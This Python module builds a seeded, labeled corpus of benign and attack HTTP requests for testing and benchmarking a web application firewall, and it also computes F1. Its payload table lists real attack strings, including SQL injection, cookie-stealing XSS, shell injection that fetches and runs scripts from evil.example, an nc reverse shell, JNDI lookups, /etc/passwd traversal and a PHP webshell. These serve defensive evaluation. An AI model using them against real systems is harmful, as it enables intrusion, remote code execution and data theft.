"""Copy of the port's ``utils/corpus.py`` for the benchmark's traffic (its requests
are the reference's ``Request``).  Its original docstring follows.

Deterministic labeled request corpus — the replay-corpus analog.

Benchmark config #1 (BASELINE.md) replays a 10k-request CRS test corpus
through the WAF.  No such corpus ships with the reference (and the mount is
empty), so we generate one deterministically: realistic benign traffic
(browsing, APIs, forms, JSON bodies) mixed with attack requests built from
per-class payload templates.  Labels (is_attack, attack_class) make it
usable for both the F1 gate and throughput replay.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

from wafbench.reference.normalize import Request

_BENIGN_PATHS = [
    "/", "/index.html", "/products", "/products/%d", "/cart", "/checkout",
    "/api/v1/users/%d", "/api/v1/orders", "/search", "/static/app.js",
    "/static/style.css", "/images/logo.png", "/blog/2026/07/tpu-waf",
    "/docs/getting-started", "/health", "/login", "/logout", "/profile",
    "/settings/notifications", "/admin/dashboard",
]
_BENIGN_PARAMS = [
    ("q", ["shoes", "red dress", "laptop 15 inch", "coffee beans", "o'brien",
           "rock and roll", "cats", "select committee report", "union jobs"]),
    ("page", ["1", "2", "10", "42"]),
    ("sort", ["price", "date", "-rating", "name_asc"]),
    ("category", ["electronics", "books", "home-garden", "catering"]),
    ("lang", ["en", "de", "fr", "ja"]),
    ("utm_source", ["newsletter", "google", "twitter"]),
    ("id", ["12345", "00001", "998877"]),
    ("filter", ["in_stock", "on_sale", "new and featured"]),
]
_BENIGN_BODIES = [
    b'{"name": "Alice", "email": "alice@example.com", "age": 34}',
    b'{"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-9", "qty": 1}]}',
    b"comment=Great+product%21+Works+as+described.&rating=5",
    b'{"query": "order history", "from": "2026-01-01", "to": "2026-07-29"}',
    b"username=jdoe&password=hunter2&remember=on",
    b'{"text": "I like cats and dogs", "tags": ["pets", "photos"]}',
]
_BENIGN_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Gecko/20100101 Firefox/128.0",
    "curl/8.5.0", "python-requests/2.32.0", "okhttp/4.12",
]

# (class, payload templates) — used in args or body
_ATTACKS: List[Tuple[str, List[str]]] = [
    ("sqli", [
        "1' UNION SELECT username, password FROM users--",
        "1 OR 1=1",
        "' OR 'a'='a",
        "1; DROP TABLE orders;--",
        "1' AND SLEEP(5)--",
        "id=1 UNION ALL SELECT NULL,version(),NULL--",
        "x' AND extractvalue(1,concat(0x7e,database()))--",
        "1%27%20UNION%20SELECT%20card_no%20FROM%20payments--",
        "1' or '1'='1' /*",
        "admin'--",
    ]),
    ("xss", [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert`1`>",
        "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<body onload=fetch('//evil/c?'+document.cookie)>",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "\"><script src=//evil.example/x.js></script>",
    ]),
    ("rce", [
        "; cat /etc/passwd",
        "| id",
        "`wget http://evil.example/sh -O /tmp/x`",
        "$(curl http://evil.example/x.sh | sh)",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "() { :; }; /bin/bash -c 'id'",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "; powershell -enc SQBFAFgA",
    ]),
    ("lfi", [
        "../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
        "....//....//etc/passwd",
        "/var/www/../../etc/passwd",
        "file=../../wp-config.php",
        "C:\\windows\\win.ini",
    ]),
    ("rfi", [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8080/admin",
        "https://evil.example/shell.php?",
        "gopher://10.0.0.5:6379/_FLUSHALL",
    ]),
    ("php", [
        "<?php system($_GET['c']); ?>",
        "eval(base64_decode($_POST['x']))",
        "O:8:\"stdClass\":1:{s:4:\"pipe\";s:2:\"id\";}",
        "call_user_func('system','id')",
    ]),
    ("java", [
        "${jndi:ldap://evil.example/Exploit}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    ]),
    # args/body placements only (see _attack): the 921/934 rules target
    # ARGS|REQUEST_BODY — a smuggling line in the PATH or a CRLF blob in
    # a header would be a mislabeled example nothing is meant to catch
    ("protocol", [
        "%0d%0aSet-Cookie: sess=evil",
        "%0D%0ALocation: https://evil.example/",
        "GET /internal/admin HTTP/1.1",
        "0%0d%0a%0d%0aGET /admin HTTP/1.1",
        "%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK",
    ]),
    ("nodejs", [
        "require('child_process').exec('id')",
        "process.mainModule.constructor._load('child_process')",
        "__proto__[isAdmin]=true",
        "constructor.prototype.polluted=1",
        "new Function('return process.env')()",
    ]),
]


@dataclass
class LabeledRequest:
    request: Request
    is_attack: bool
    attack_class: str = ""


def _benign(rng: random.Random, i: int) -> Request:
    path = rng.choice(_BENIGN_PATHS)
    if "%d" in path:
        path = path % rng.randrange(1, 99999)
    params = rng.sample(_BENIGN_PARAMS, k=rng.randrange(0, 4))
    if params:
        qs = "&".join(
            "%s=%s" % (k, rng.choice(vs).replace(" ", "+")) for k, vs in params)
        path = path + "?" + qs
    method = "GET"
    body = b""
    headers = {
        "host": "shop.example.com",
        "user-agent": rng.choice(_BENIGN_AGENTS),
        "accept": "*/*",
    }
    if rng.random() < 0.25:
        method = "POST"
        body = rng.choice(_BENIGN_BODIES)
        # real clients always frame the body (920180/920340 model the
        # protocol violation; a synthetic corpus must not commit it)
        headers["content-length"] = str(len(body))
        headers["content-type"] = (
            "application/json" if body[:1] in (b"{", b"[")
            else "application/x-www-form-urlencoded")
    if rng.random() < 0.3:
        headers["cookie"] = "session=%032x" % rng.getrandbits(128)
    return Request(method=method, uri=path, headers=headers, body=body,
                   request_id="benign-%d" % i)


#: payload mutation hook (utils/evasion.py mutation harness): called as
#: ``mutate(payload, attack_class, carrier)`` AFTER the carrier slot is
#: drawn and BEFORE placement, where carrier ∈ {"query", "body", "path",
#: "header"}.  The hook must not touch the shared rng — every rng draw
#: happens before it runs, so a mutated corpus keeps the golden corpus'
#: exact placements (same requests, only the payload bytes differ).
PayloadMutator = Callable[[str, str, str], str]


def _attack(rng: random.Random, i: int,
            mutate: Optional[PayloadMutator] = None) -> LabeledRequest:
    cls, payloads = _ATTACKS[rng.randrange(len(_ATTACKS))]
    payload = rng.choice(payloads)
    slot = rng.random()
    if cls == "rfi" and slot >= 0.9:
        # a bare URL in a header is not an RFI vector (nothing include()s a
        # header); keep RFI payloads in parameters/body/path where they attack
        slot = rng.random() * 0.9
    elif cls in ("protocol", "nodejs"):
        # these families' rules target ARGS|REQUEST_BODY (see the
        # _ATTACKS comment): keep their payloads in query/body slots
        slot = rng.random() * 0.8
    headers = {"host": "shop.example.com",
               "user-agent": rng.choice(_BENIGN_AGENTS)}
    carrier = ("query" if slot < 0.5 else "body" if slot < 0.8
               else "path" if slot < 0.9 else "header")
    if mutate is not None:
        payload = mutate(payload, cls, carrier)
    method, uri, body = "GET", "/", b""
    if carrier == "query":
        uri = "/search?q=" + payload.replace(" ", "+")
    elif carrier == "body":
        method = "POST"
        uri = "/api/v1/comments"
        body = ("comment=" + payload).encode("utf-8", "surrogateescape")
        headers["content-length"] = str(len(body))
        headers["content-type"] = "application/x-www-form-urlencoded"
    elif carrier == "path":
        uri = "/files/" + payload
    else:  # header
        headers["user-agent"] = payload
        uri = "/index.html"
    return LabeledRequest(
        request=Request(method=method, uri=uri, headers=headers, body=body,
                        request_id="attack-%s-%d" % (cls, i)),
        is_attack=True, attack_class=cls)


def generate_corpus(
    n: int = 10_000,
    attack_fraction: float = 0.2,
    seed: int = 20260729,
    tenants: int = 1,
    payload_mutator: Optional[PayloadMutator] = None,
) -> List[LabeledRequest]:
    """Deterministic labeled corpus; ``tenants`` spreads requests across
    tenant ids for the EP/multi-tenant configs.  ``payload_mutator``
    rewrites attack payloads in place (see :data:`PayloadMutator`) —
    the evasion-mutation harness replays the SAME corpus with only the
    payload bytes re-encoded."""
    rng = random.Random(seed)
    out: List[LabeledRequest] = []
    for i in range(n):
        if rng.random() < attack_fraction:
            lr = _attack(rng, i, mutate=payload_mutator)
        else:
            lr = LabeledRequest(request=_benign(rng, i), is_attack=False)
        lr.request.tenant = rng.randrange(tenants) if tenants > 1 else 0
        out.append(lr)
    return out


def f1_score(tp: int, fp: int, fn: int) -> float:
    if tp == 0:
        return 0.0
    precision = tp / (tp + fp)
    recall = tp / (tp + fn)
    return 2 * precision * recall / (precision + recall)
